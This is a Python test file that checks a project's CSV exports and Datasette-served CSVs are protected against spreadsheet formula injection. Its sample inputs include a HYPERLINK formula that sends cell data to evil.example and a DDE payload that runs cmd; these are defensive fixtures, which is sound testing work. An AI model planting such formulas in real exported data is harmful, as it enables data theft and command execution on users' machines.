"""CSV safe for Excel: a text cell that begins with = + - @ tab or CR is written with a leading
apostrophe in every CSV the project writes (xxgk export) or serves (Datasette), numbers stay
numbers — tested on an archive whose titles and organ names carry formulas."""
from __future__ import annotations

import csv
import io

import httpx

from archive.csvsafe import StreamRewriter, safe_cell, safe_row

from .conftest import datasette, run_xxgk
from .hostile import sim_reports

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_the_rule():
    assert [safe_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert safe_row([2023, -3, 1.5, None, "-3", "+12.5", "-0.25", "云溪县", "", "1-2"]) == [
        2023, -3, 1.5, None, "-3", "+12.5", "-0.25", "云溪县", "", "1-2"]


def test_stream_rewriter_any_chunking():
    rows = [["id", "title"], ["1", FORMULAS[0]], ["2", '多行\n"引号",=1+1'], ["3", "-3"], ["4", "@x"]]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    data = buf.getvalue().encode()
    for size in (1, 2, 3, 7, 64, len(data)):
        r = StreamRewriter()
        out = b"".join(r.feed(data[i:i + size]) for i in range(0, len(data), size)) + r.close()
        assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [safe_row(x) for x in rows]


def formula_archive(data):
    from archive.parse import parse_html
    from archive.store import Archive, now

    archive = Archive(data)
    for i, (title, page, truth) in enumerate(sim_reports(len(FORMULAS))):
        parsed = parse_html(page)
        parsed.title = FORMULAS[i] + title
        archive.store(parsed, url=f"http://sim.test/r{i}.html", body=page.encode(), fetched_at=now(),
                      portal={"name": FORMULAS[i] + "县", "level": "county"})
    archive.close()


def check_csv(text: str, title_column: str = "title") -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    titles = sorted(r[title_column] for r in rows)
    assert len(titles) == len(FORMULAS)
    assert all(t.startswith("'") for t in titles), titles
    assert sorted(t[1:len(f) + 1] for t, f in zip(titles, sorted(FORMULAS))) == sorted(FORMULAS)
    for r in rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "@", "\t", "\r")) and not (v.startswith("-") and not v[1:].replace(".", "").isdigit()), v
    return rows


def test_export_and_served_csv(tmp_path):
    data = tmp_path / "data"
    formula_archive(data)
    run_xxgk("export", "--data", data, "--out", tmp_path / "out")
    with open(tmp_path / "out" / "reports.csv", encoding="utf-8", newline="") as fh:  # keep a CR a CR
        rows = check_csv(fh.read())
    assert sorted(r["year"] for r in rows) == sorted(str(t.year) for _, _, t in sim_reports(len(FORMULAS)))
    cells = list(csv.DictReader(io.StringIO((tmp_path / "out" / "cells.csv").read_text(encoding="utf-8-sig"))))
    assert cells and all(c["value"] == "" or c["value"].lstrip("-").replace(".", "").isdigit() for c in cells)
    with open(tmp_path / "out" / "organs.csv", encoding="utf-8-sig", newline="") as fh:
        organs = list(csv.DictReader(fh))
    assert sorted(o["name"] for o in organs if o["name"][:1] in "'=+-@\t\r") == sorted("'" + f + "县" for f in FORMULAS)
    with datasette(data) as base:
        served = httpx.get(f"{base}/xxgk/reports.csv?_size=max", timeout=30)
        assert served.status_code == 200
        check_csv(served.text)
        streamed = httpx.get(f"{base}/xxgk/reports.csv?_stream=on", timeout=30)
        check_csv(streamed.text)
        query = httpx.get(f"{base}/xxgk/failing_checks.csv", timeout=30)
        assert query.status_code == 200
        n = httpx.get(f"{base}/xxgk/cells.csv?_size=max&_col=value", timeout=30).text.splitlines()
        assert n[0] == "id,value" and all(not line.split(",")[1].startswith("'") for line in n[1:])
